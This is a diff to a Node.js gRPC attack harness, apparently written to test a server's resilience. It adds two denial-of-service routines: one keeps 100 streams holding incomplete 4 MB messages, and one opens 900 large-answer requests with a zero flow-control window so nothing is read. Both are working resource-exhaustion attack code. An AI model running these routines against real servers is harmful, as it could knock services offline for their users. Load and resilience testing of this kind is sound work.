@@ -5,8 +5,8 @@ import { gzipSync } from 'node:zlib';
 
 const [, , attack, target] = process.argv;
 
-async function session() {
-  const made = connect(`http://${target}`);
+async function session(settings = {}) {
+  const made = connect(`http://${target}`, { settings });
   made.on('error', () => {});
   await once(made, 'connect');
   return made;
@@ -21,9 +21,12 @@ function open(of, method, body, more = {}) {
     ...more,
   });
   stream.on('error', () => {});
-  stream.end(body);
+  if (body !== undefined) stream.end(body);
   return stream;
 }
+
+/** Resolves once a stream has closed, by whatever error. */
+const closing = (stream) => new Promise((resolve) => stream.once('close', resolve));
 
 /** A message as gRPC frames it. */
 function message(bytes, { compressed = false, length = bytes.length } = {}) {
@@ -81,6 +84,24 @@ const attacks = {
         ),
       ),
     );
+  },
+  /** Requests that lack a byte, until the server has enough of them. */
+  async halves() {
+    const attacker = await session();
+    const half = message(Buffer.alloc(4_194_303), { length: 4_194_304 });
+    const streams = Array.from({ length: 100 }, () => {
+      const stream = open(attacker, 'SignalService/IngestSignals');
+      stream.write(half);
+      return stream;
+    });
+    await Promise.race(streams.map(closing));
+  },
+  /** Large answers of which nothing is read, until the server has enough of them. */
+  async answers() {
+    const attacker = await session({ initialWindowSize: 0 });
+    const ids = message(Buffer.concat(Array.from({ length: 1_000 }, () => GET.subarray(5))));
+    const streams = Array.from({ length: 900 }, () => open(attacker, 'RiskService/BatchGetRisks', ids));
+    await Promise.race(streams.map(closing));
   },
   /** Answers that nobody reads, of a caller that leaves in the middle of them. */
   async unread() {
